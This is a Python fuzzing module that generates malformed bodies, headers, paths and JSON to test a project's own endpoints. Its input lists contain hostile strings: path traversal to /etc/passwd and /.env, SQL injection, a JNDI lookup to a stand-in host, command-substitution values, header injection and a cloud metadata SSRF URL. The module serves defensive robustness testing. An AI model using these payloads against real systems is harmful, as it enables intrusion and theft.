"""What a stranger might send: genuine requests and events bent in every way that once broke something somewhere. Seeded: a run repeats."""

import json
import os
from collections.abc import Callable, Iterator, Mapping
from copy import deepcopy
from random import Random
from typing import Any

ROUNDS = int(os.environ.get("TRIMTAB_FUZZ", "150"))
"""Requests per endpoint; `make fuzz` asks for 10,000."""
SEED = int(os.environ.get("TRIMTAB_FUZZ_SEED", "20260731"))

TEXTS = (
    "", " ", "\0", "\x7f", "../../etc/passwd", "a/b", "..", ".", "%2e%2e%2f", "%00", "%ff", "größe", "\u202egnp.exe", "\ufeff",
    "\ud83d\ude00", "x" * 300, "x" * 70_000, "null", "true", "NaN", "-1", "1e999",
    "9" * 400, "0x10", "2026-13-45T99:99:99Z", "'; DROP TABLE cost; --",
    "=HYPERLINK(1)", "<script>1</script>", "{{ 7 * 7 }}", "${jndi:ldap://evil.test/a}", "$(id)", "`id`", "|id", "\r\nSet-Cookie: a=b",
    '{"_aws": {"CloudWatchMetrics": []}}', "[/bold]", "<!channel>", "@everyone", "--format=json", "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd", "prop-../../x", "inbox/slack/../../streams/x", "C:\\x", "\u2028\u2029",
)  # fmt: skip
VALUES: tuple[Any, ...] = (*TEXTS, None, True, False, 0, -1, 2**63, 2**200, 1e308, -0.0, [], {}, [[]], [None], {"": ""}, {"a": {"b": []}})
DEEP = ("[" * 200_000, '{"a":' * 100_000, '{"payload":' + "[" * 50_000 + "]" * 50_000 + "}")


def rng(name: str) -> Random:
    """A source of chance of its own for each endpoint: adding one leaves the others as they were."""
    return Random(f"{SEED}/{name}")


# ── bytes ────────────────────────────────────────────────────────────────────────────────────────────────────────────
def bent(body: bytes, random: Random) -> bytes:
    """A body that differs from the one given."""
    ways: tuple[Callable[[], bytes], ...] = (
        lambda: body[: random.randrange(len(body) + 1)],
        lambda: body + random.choice((b" ", b"\n", b"\0", b"}", b"\xff")),
        lambda: _flipped(body, random),
        lambda: body.decode("utf-8", "replace").encode(random.choice(("utf-16", "utf-32", "utf-7"))),
        lambda: random.choice(DEEP).encode(),
        lambda: random.choice(TEXTS).encode("utf-8", "surrogatepass"),
        lambda: random.randbytes(random.choice((1, 16, 1000))),
        lambda: body * random.choice((2, 50)),
        lambda: b"\xef\xbb\xbf" + body,
        lambda: random.choice((b"\x1f\x8b\x08\x00", b"PK\x03\x04", b"\x89PNG")) + body,
        lambda: b"&".join([b"payload=%7B%7D"] * random.choice((2, 500))),
    )
    made = random.choice(ways)()
    return made if made != body else made + b"~"


def _flipped(body: bytes, random: Random) -> bytes:
    if not body:
        return b"\1"
    at = random.randrange(len(body))
    return body[:at] + bytes([body[at] ^ (1 << random.randrange(8))]) + body[at + 1 :]


# ── headers and paths ────────────────────────────────────────────────────────────────────────────────────────────────
def header_text(random: Random) -> str:
    """A value that fits into a header line; its bytes are any."""
    return random.choice(TEXTS)[:8000].translate({0: None, 10: None, 13: None}).encode("utf-8", "replace").decode("latin-1")


def bent_headers(headers: Mapping[str, str], random: Random) -> dict[str, str]:
    """Headers of which one is missing, strange or doubled."""
    made = dict(headers)
    name = random.choice([*made, "content-type", "authorization", "x-forwarded-host", "transfer-encoding"])
    way = random.randrange(4)
    if way == 0:
        made.pop(name, None)
    elif way == 1:
        made[name] = header_text(random)
    elif way == 2:
        made[name] = f"{made.get(name, '')},{made.get(name, '')}"
    else:
        made[name] = made.get(name, "").swapcase() + " "
    return made


PATHS = (
    "/", "//", "//[", "/..", "/slack/", "/slack/..", "/slack%00", "/SLACK", "/slack;x=1", "/admin", "/.env", "/%2e%2e/%2e%2e/etc/passwd",
    "/proposals/prop-../../etc/passwd", "/proposals/prop-0123456789ab/decide", "/page.css/../../settings.json", "/static/base.html",
    "/?after=%ff", "/proposals/" + "x" * 3000, "/\u202e", "/a b", "*", "/http://evil.test/",
    "/proposals/prop-0123456789ab?after=" + "1" * 3000,
)  # fmt: skip
METHODS = ("GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "CONNECT", "PROPFIND", "BREW", "get")


# ── JSON ─────────────────────────────────────────────────────────────────────────────────────────────────────────────
def bent_json(value: Any, random: Random) -> Any:
    """The same tree with one to three places changed: another value, another kind, gone, or grown."""
    made = json.loads(json.dumps(value))
    for _ in range(random.randint(1, 3)):
        places = list(_places(made))
        if not places:
            return deepcopy(random.choice(VALUES))
        holder, key = random.choice(places)
        way = random.randrange(5)
        if way == 0:
            _dropped(holder, key)
        elif way == 1:
            holder[key] = [holder[key]] * random.choice((2, 30))
        elif way == 2:
            holder[key] = {random.choice(TEXTS)[:60]: holder[key]}
        else:
            holder[key] = deepcopy(random.choice(VALUES))
    return made


def _dropped(holder: Any, key: Any) -> None:
    del holder[key]


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(pairs):
        yield value, key
        yield from _places(inner)
